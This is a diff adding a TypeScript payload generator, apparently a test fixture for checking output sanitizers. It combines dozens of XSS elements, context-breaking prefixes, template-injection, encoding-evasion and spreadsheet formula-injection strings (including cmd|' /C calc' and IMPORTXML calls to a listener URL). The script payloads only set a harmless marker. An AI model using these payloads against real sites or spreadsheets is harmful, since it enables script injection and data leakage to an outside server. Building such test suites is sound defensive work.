@@ -1,0 +1,101 @@
+/** Texts that try to become more than text, each of them alone. */
+
+const HARM = 'globalThis.hacked=1';
+
+/** Elements that run something, or fetch something. `URL` is the address of the server that listens. */
+const ELEMENTS = [
+  `<script>${HARM}</script>`,
+  `<script src="URL"></script>`,
+  `<script type=module>import "URL"</script>`,
+  `<img src="URL">`,
+  `<img src=x onerror="${HARM}">`,
+  `<img srcset="URL 2x">`,
+  `<picture><source srcset="URL"><img></picture>`,
+  `<svg onload="${HARM}"></svg>`,
+  `<svg><script>${HARM}</script></svg>`,
+  `<svg><image href="URL"/></svg>`,
+  `<svg><use href="URL#x"/></svg>`,
+  `<svg><animate onbegin="${HARM}" attributeName=x dur=1s>`,
+  `<svg><a href="javascript:${HARM}"><text y=9>x</text></a></svg>`,
+  `<svg><style><img src=x onerror=${HARM}></style></svg>`,
+  `<math><maction actiontype=statusline href="javascript:${HARM}">x</maction></math>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${HARM}></style></mglyph></table></mtext></math>`,
+  `<iframe src="URL"></iframe>`,
+  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
+  `<iframe src="javascript:${HARM}"></iframe>`,
+  `<object data="URL"></object>`,
+  `<embed src="URL">`,
+  `<video src="URL" autoplay onerror="${HARM}"></video>`,
+  `<video poster="URL"></video>`,
+  `<audio src="URL" autoplay></audio>`,
+  `<link rel=stylesheet href="URL">`,
+  `<link rel=prefetch href="URL">`,
+  `<style>@import "URL";</style>`,
+  `<style>*{background:url(URL)}</style>`,
+  `<div style="background:url(URL)">x</div>`,
+  `<meta http-equiv=refresh content="0;url=URL">`,
+  `<base href="URL">`,
+  `<form action="URL"><button>x</button></form>`,
+  `<input autofocus onfocus="${HARM}">`,
+  `<input type=image src="URL">`,
+  `<details open ontoggle="${HARM}">x</details>`,
+  `<body onload="${HARM}">`,
+  `<marquee onstart="${HARM}">x</marquee>`,
+  `<a href="javascript:${HARM}">x</a>`,
+  `<a href="java&#10;script:${HARM}">x</a>`,
+  `<a href="data:text/html,<script>${HARM}</script>">x</a>`,
+  `<a ping="URL" href="#">x</a>`,
+  `<portal src="URL"></portal>`,
+  `<template><img src=x onerror="${HARM}"></template>`,
+  `<template shadowrootmode=open><img src=x onerror="${HARM}"></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${HARM}>">`,
+  `<xmp><img src=x onerror=${HARM}></xmp>`,
+  `<dialog open oncancel="${HARM}">x</dialog>`,
+  `<p popover onbeforetoggle="${HARM}">x</p>`,
+];
+
+/** What an element would have to break out of. */
+const BREAKERS = ['', '">', `'>`, '--></style></script></textarea></title>', ']]>'];
+
+const TEXTS = [
+  '{{constructor.constructor("globalThis.hacked=1")()}}',
+  `\${globalThis.hacked=1}`,
+  '<%= globalThis.hacked=1 %>',
+  '{{7*7}}',
+  '#{7*7}',
+  '[x](javascript:globalThis.hacked=1)',
+  '![](URL)',
+  '[x]: URL\n![x]',
+  '`<img src=URL>`',
+  '**<img src=URL>**',
+  '<javascript:globalThis.hacked=1>',
+  '\u202e<img src=URL>',
+  '\u2067"><img src=URL>',
+  '&lt;img src=x onerror=globalThis.hacked=1&gt;',
+  '&#60;script&#62;globalThis.hacked=1&#60;/script&#62;',
+  '\\u003cscript\\u003eglobalThis.hacked=1',
+  '<scr\u0000ipt>globalThis.hacked=1</scr\u0000ipt>',
+  '<\u200bscript>globalThis.hacked=1</script>',
+  '＜script＞globalThis.hacked=1＜/script＞',
+  '=HYPERLINK("URL","x")',
+  '+IMPORTXML("URL","//a")',
+  '-2+3+cmd|" /C calc"!A0',
+  '@SUM(1+1)*cmd|" /C calc"!A0',
+  '＝HYPERLINK("URL")',
+  '"; globalThis.hacked=1; "',
+  '" .\n<x> <y> "z',
+  ']]><script>globalThis.hacked=1</script><![CDATA[',
+  '</script><script>globalThis.hacked=1</script>',
+  '<!--<script>',
+  '__proto__',
+  'constructor',
+  'toString',
+  'javascript:globalThis.hacked=1',
+  'expression(globalThis.hacked=1)',
+];
+
+/** @param url of a server that notices whoever asks for it */
+export function payloads(url: string): string[] {
+  const made = BREAKERS.flatMap((breaker) => ELEMENTS.map((element) => breaker + element));
+  return [...made, ...TEXTS].map((text) => text.replaceAll('URL', url));
+}
